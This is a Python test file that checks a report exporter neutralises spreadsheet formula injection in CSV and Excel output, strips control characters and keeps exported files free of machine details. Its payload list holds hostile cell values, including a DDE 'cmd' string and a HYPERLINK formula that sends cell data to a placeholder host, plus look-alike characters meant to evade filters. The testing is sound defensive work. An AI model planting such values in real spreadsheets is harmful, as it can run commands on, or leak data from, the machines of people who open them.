"""Released files: hostile cells are dead, cells keep their types, nothing of the machine shows."""

from __future__ import annotations

import io
import unicodedata
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from data_access.store import Store
from reports import cells
from reports.table_spec import ColumnSpec, Kind, TableSpec
from reports.tables_csv import write_csv
from reports.tables_excel import write_xlsx
from tests.gate_support import (
    NOW,
    gate_store,
    passed,
    read_csv,
    read_xlsx,
    table,
)

# Hostile cells

STARTERS = st.sampled_from(list("=+-@") + list("＝＋－＠﹦﹢﹣﹫"))
LEADS = st.text(st.sampled_from(list(" \t\r\n\"'“‘`\u00a0\u200b\ufeff\u3000\u202e\x00\x0b")), max_size=4)
PAYLOADS = st.sampled_from(
    ["cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.example/?"&A1,"a")', "IMPORTXML(A1)", "A1", "-2+3"]
)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    yield from gate_store(tmp_path_factory.mktemp("gate"))


def _is_live(cell: str) -> bool:
    """Whether some spreadsheet may take the cell for a formula, after dropping blanks and quotes before it."""
    rest = cell.lstrip(' \t\r\n\u00a0\u3000"“”‘’`\u200b\ufeff\x00\x0b\u202e')
    return bool(rest) and unicodedata.normalize("NFKC", rest)[0] in "=+-@\t\r"


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    LEADS, STARTERS, PAYLOADS, st.sampled_from(["text", "label", "code", "address", "phone", "name", "count", "moment"])
)
def test_no_cell_is_a_formula(store: Store, lead: str, starter: str, payload: str, kind: Kind) -> None:
    hostile = f"{lead}{starter}{payload}"
    made = passed(store, table([(kind, hostile), ("text", f"x;{hostile}")]), Nhóm=hostile)
    value = made.rows[0][0]
    assert isinstance(value, str)
    assert not _is_live(value)
    for delimiter in (",", ";", "\t", "|"):
        for row in read_csv(write_csv(made), delimiter):
            assert [cell for cell in row if _is_live(cell)] == []
    sheet = read_xlsx(write_xlsx(made))
    assert [cell.coordinate for row in sheet for cell in row if cell.data_type == "f"] == []


@pytest.mark.parametrize("figure", ["-1,5", "+12", "+3 (+12,5%)", "-2,1 điểm %", "+3 giờ 20 phút", "–", "-", "12%"])
def test_figures_with_a_sign_stay_as_they_are(store: Store, figure: str) -> None:
    assert passed(store, table({"label": figure})).rows[0] == (figure,)


def test_control_and_direction_characters_do_not_leave(store: Store) -> None:
    made = passed(store, table({"label": "a\x00b\u202ec\u200bd\ud800e\x1b[31m"}))
    assert made.rows[0] == ("a bcde [31m",)
    write_csv(made), write_xlsx(made)


def test_a_text_too_long_for_a_cell_is_cut_and_still_written(store: Store) -> None:
    made = passed(store, table({"text": "dài " * 20_000}))
    written = read_xlsx(write_xlsx(made)).cell(3, 1).value
    assert written.endswith("…")
    assert len(written) == cells.LONGEST


# Files


def test_the_csv_file_holds_what_was_released(store: Store) -> None:
    spec = table([("label", 'Tổ "1", 2\nba'), ("count", 1234), ("number", 1.5), ("rate", 0.9474), ("moment", NOW)])
    data = write_csv(passed(store, spec))
    assert read_csv(data)[0] == ["Cột 0", "Cột 1", "Cột 2", "Cột 3", "Cột 4"]
    assert read_csv(data)[1] == ['Tổ "1", 2 ba', "1234", "1,5", "94,7%", "10:00 25/11/2026"]
    assert data.count(b"\r\n") == len(read_csv(data))


def test_the_excel_file_holds_typed_cells(store: Store) -> None:
    columns = (
        ColumnSpec("a", "Tổ dân phố", "label"),
        ColumnSpec("b", "Số tin", "count"),
        ColumnSpec("c", "Tỷ lệ", "rate"),
        ColumnSpec("d", "Lúc", "moment"),
    )
    rows = [["Tổ 1", 1234, 0.5, NOW], ["http://x.example", 5, None, None], ["Tổng", 1239, 0.5, NOW]]
    made = passed(store, TableSpec("bang", columns, rows, "read.aggregates", total_row=True))
    data = write_xlsx(made)
    sheet = read_xlsx(data)
    assert sheet.freeze_panes == "A3"
    assert [cell.value for cell in sheet[2]] == ["Tổ dân phố", "Số tin", "Tỷ lệ", "Lúc"]
    assert [(cell.value, cell.data_type) for cell in sheet[3]] == [
        ("Tổ 1", "s"),
        (1234, "n"),
        (0.5, "n"),
        (NOW, "d"),
    ]
    assert sheet["C3"].number_format == "0.0%"
    assert sheet["A4"].hyperlink is None
    assert sheet["B5"].font.bold
    assert not sheet["B3"].font.bold
    assert sheet["A7"].value == made.lines[0]
    assert 8 <= sheet.column_dimensions["A"].width <= 62


def test_the_excel_file_tells_nothing_of_the_machine_and_is_the_same_each_time(store: Store) -> None:
    made = passed(store, table({"text": "a"}))
    data = write_xlsx(made)
    assert data == write_xlsx(made)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert not book.properties.creator
    assert not book.properties.lastModifiedBy
    assert book.properties.created == NOW
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
